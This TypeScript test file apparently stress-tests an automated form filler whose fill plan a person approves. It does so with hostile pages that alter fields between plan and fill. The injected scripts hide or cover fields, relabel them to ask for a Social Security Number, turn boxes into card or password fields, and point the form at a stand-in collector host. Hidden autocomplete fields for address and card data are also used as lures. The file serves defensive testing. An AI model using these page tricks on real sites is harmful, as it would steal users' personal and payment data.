import type { Tally } from '../suite.ts';
import { takenIn, type Open } from './engine-page.ts';
import { requireHonest } from './hidden-fields.ts';
import { askFor, everyKind } from './kinds.ts';
import { pageOf, question, siteNames, textBox, type SiteName } from './markup.ts';

/** What a page does between the plan, which the person approves, and the fill. It runs in the page. */
const betweenPlanAndFill: Record<string, string> = {
  'hides it': "trap.style.display = 'none'",
  'makes it faint': "trap.style.opacity = '0.02'",
  'moves it away': "trap.style.cssText = 'position:absolute;left:-9999px'",
  'covers it':
    "trap.style.position = 'relative'; trap.insertAdjacentHTML('beforeend', '<div style=\"position:absolute;inset:0;background:#fff\"></div>')",
  'covers it, clicks going through':
    "trap.style.position = 'relative'; trap.insertAdjacentHTML('beforeend', '<div style=\"position:absolute;inset:0;background:#fff;pointer-events:none\"></div>')",
  'covers the page with a dialog':
    "document.body.insertAdjacentHTML('beforeend', '<dialog id=d style=\"inset:0;width:100vw;height:100vh;max-width:none;max-height:none;padding:0;border:0\"></dialog>'); d.showModal()",
  'shrinks it': "trap.style.transform = 'scale(0.01)'",
  'makes it inert': 'trap.inert = true',
  'begins to fade it': "trap.animate({ opacity: [1, 0] }, { duration: 60000, fill: 'forwards' })",
  'turns boxes into passwords':
    "trap.removeAttribute('data-trap'); for (const box of trap.querySelectorAll('input[id]')) { box.dataset.trap = ''; box.type = 'password' }",
  'turns boxes into card numbers':
    "trap.removeAttribute('data-trap'); for (const box of trap.querySelectorAll('input[id]')) { box.dataset.trap = ''; box.autocomplete = 'cc-number' }",
  'says something else': "for (const label of trap.querySelectorAll('label, .text, legend')) label.textContent = 'Anything else?'",
  'asks for a secret': "for (const label of trap.querySelectorAll('label, .text, legend')) label.textContent = 'Social Security Number'",
  'swaps the labels':
    "{ const all = [...trap.querySelectorAll('label, .text, legend')]; const texts = all.map((one) => one.textContent); all.forEach((one, at) => { one.textContent = texts[(at + 1) % texts.length] }) }",
  'swaps the ids':
    "{ const boxes = [...trap.querySelectorAll('[id]')]; const ids = boxes.map(({ id }) => id); trap.removeAttribute('data-trap'); boxes.forEach((one, at) => { one.dataset.trap = ''; one.id = ids[(at + 1) % ids.length] }) }",
  'renames them': "for (const box of trap.querySelectorAll('[name]')) box.name = 'ssn'",
  'puts others in their place': "trap.innerHTML = trap.innerHTML.replaceAll('<label', '<label hidden').replaceAll('name=\"', 'name=\"hp_')",
  'sends the form elsewhere': "document.forms[0].action = 'https://collector.marlow.example/take'",
  'sends the form to a program': "document.forms[0].action = 'javascript:void(0)'",
  'has a button that sends it elsewhere':
    "document.querySelector('[type=submit]').setAttribute('formaction', 'https://collector.marlow.example/take')",
  'moves them into another form':
    "document.body.insertAdjacentHTML('beforeend', '<form id=other action=\"https://collector.marlow.example/take\"></form>'); document.getElementById('other').append(trap)",
  'gives them to another form by attribute':
    "document.body.insertAdjacentHTML('beforeend', '<form id=other action=\"https://collector.marlow.example/take\"></form>'); for (const box of trap.querySelectorAll('input, select, textarea')) box.setAttribute('form', 'other')",
  'takes them out': 'trap.remove()',
  'gives them the names of lures': "for (const box of trap.querySelectorAll('[name]')) box.name = 'honeypot_' + box.name",
};

/** What a page does at the first thing that is put into it. */
const whileFilling = [
  'hides it',
  'makes it faint',
  'moves it away',
  'turns boxes into passwords',
  'says something else',
  'asks for a secret',
  'sends the form elsewhere',
];

/** After these the honest fields are, rightly, not filled either. */
const stopsAll = /sends the form|sends it elsewhere|covers the page/u;

const withTrap = (script: string) => `{ const trap = document.querySelector('[data-trap]'); ${script} }`;
const atFirstInput = (script: string) => `addEventListener('input', () => ${withTrap(script)}, { capture: true, once: true })`;

export async function attackBySwaps(open: Open, tally: Tally): Promise<void> {
  for (const [at, [name, script]] of Object.entries(betweenPlanAndFill).entries())
    await attack(open, tally, { name: `between plan and fill it ${name}`, script: withTrap(script), at });
  for (const [at, name] of whileFilling.entries())
    await attack(open, tally, {
      name: `while it is filled it ${name}`,
      script: atFirstInput(betweenPlanAndFill[name] ?? ''),
      at,
    });
  await attackAddresses(open, tally);
}

type Swap = { name: string; script: string; at: number };

async function attack(open: Open, tally: Tally, { name, script, at }: Swap): Promise<void> {
  const site = siteNames[at % siteNames.length] as SiteName;
  const traps = everyKind.filter((kind) => kind !== 'file').map((kind) => askFor(site, kind));
  const hostile = await open({ site, html: pageOf(site, `<div data-trap>${traps.join('')}</div>`) });
  const plan = await hostile.plan();
  const planned = plan.items.filter((item) => item.action === 'fill');
  if (planned.length < 5) throw new Error(`Only ${planned.length} fields were planned before “${name}”.`);
  await hostile.page.evaluate(script);
  await hostile.fill(plan);
  if (!stopsAll.test(name)) await requireHonest(hostile, name);
  tally.attack(`${name}, on ${site}`, (await takenIn(hostile.page)).join('; ') || false);
}

const hiddenAddress = [
  'street-address',
  'address-line1',
  'address-level1',
  'address-level2',
  'postal-code',
  'country',
  'tel',
  'bday',
  'sex',
  'cc-number',
  'organization',
  'honorific-prefix',
];

/** One of no known ATS that asks for a card is left alone as a whole. */
const known = siteNames.filter((site) => site !== 'other');

/** The name is asked, and ten more things are behind it: what fillers of browsers have fallen for. */
async function attackAddresses(open: Open, tally: Tally): Promise<void> {
  for (const [at, css] of ['position:absolute;left:-2000px', 'opacity:0', 'height:0;overflow:hidden', 'clip-path:inset(100%)'].entries()) {
    const site = known[at % known.length] as SiteName;
    const boxes = hiddenAddress.map((token) =>
      question(site, { id: token, label: token.replaceAll('-', ' '), control: textBox(token, `autocomplete="${token}"`) }),
    );
    const html = pageOf(site, `<div data-trap style="${css}">${boxes.join('')}</div>`);
    const hostile = await open({ site, html });
    await hostile.fill(await hostile.plan());
    await requireHonest(hostile, css);
    const taken = await takenIn(hostile.page);
    for (const token of hiddenAddress)
      tally.attack(`behind the name, ${css}: ${token}`, taken.find((one) => one.startsWith(token)) ?? false);
  }
}
